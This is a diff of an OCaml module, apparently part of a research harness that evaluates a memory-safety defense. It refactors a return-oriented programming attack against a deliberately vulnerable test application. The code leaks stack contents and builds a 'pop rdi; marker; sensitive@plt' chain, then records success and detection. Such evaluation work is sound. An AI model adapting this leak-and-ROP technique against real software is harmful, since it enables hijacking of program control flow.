@@ -1,16 +1,5 @@
 open R2c_machine
 
-let name = "rop"
-
-let marker = R2c_workloads.Vulnapp.marker
-
-let succeeded t =
-  List.exists (fun (rdi, _) -> rdi = marker) (Oracle.sensitive_log t)
-
-let finish ?(notes = []) ~attempts t =
-  Report.make ~attack:name ~success:(succeeded t) ~detected:(Oracle.detected t)
-    ~crashes:(Oracle.crashes t) ~attempts ~notes ()
-
 (* The exploit bytes: benign filler rebuilt from the leak, then
    [pop rdi; marker; sensitive@plt]. Exposed for the MVEE experiment. *)
 let craft ~(reference : Reference.t) ~values =
@@ -21,32 +10,17 @@ let craft ~(reference : Reference.t) ~values =
         Payload.slice ~values ~from_off:reference.buf_off ~upto_off:reference.ra_off
       in
       Some
-        (filler ^ Payload.le64 gadget ^ Payload.le64 marker
+        (filler ^ Payload.le64 gadget ^ Payload.le64 R2c_workloads.Vulnapp.marker
         ^ Payload.le64 reference.sensitive_plt)
 
 let run ~reference:(r : Reference.t) ~target:t =
-  match Oracle.to_break t with
-  | `Done o ->
-      Report.make ~attack:name ~success:false ~detected:(Oracle.detected t)
-        ~notes:[ "no breakpoint: " ^ Process.outcome_to_string o ]
-        ()
-  | `Break -> (
-      match Oracle.resume_to_break t with
-      | `Done o ->
-          Report.make ~attack:name ~success:false ~detected:(Oracle.detected t)
-            ~notes:[ "second request never reached: " ^ Process.outcome_to_string o ]
-            ()
-      | `Break -> (
-          match r.pop_rdi with
-          | None ->
-              Report.make ~attack:name ~success:false ~detected:false
-                ~notes:[ "reference binary has no pop rdi gadget" ] ()
-          | Some _ ->
-              let _, values = Oracle.leak_stack t ~words:((r.ra_off / 8) + 8) in
-              (match craft ~reference:r ~values with
-              | None -> ()
-              | Some payload ->
-                  Oracle.send t payload;
-                  let (_ : Process.outcome) = Oracle.resume_to_end t in
-                  ());
-              finish ~attempts:1 t))
+  match Oracle.to_serving t with
+  | Error note -> Report.of_target ~notes:[ note ] t
+  | Ok () -> (
+      let values = Oracle.leak_at t ~addr:(Oracle.rsp t) ~words:((r.ra_off / 8) + 8) in
+      match craft ~reference:r ~values with
+      | None -> Report.of_target ~notes:[ "reference binary has no pop rdi gadget" ] t
+      | Some payload ->
+          Oracle.send t payload;
+          let (_ : Process.outcome) = Oracle.resume_to_end t in
+          Report.of_target t)
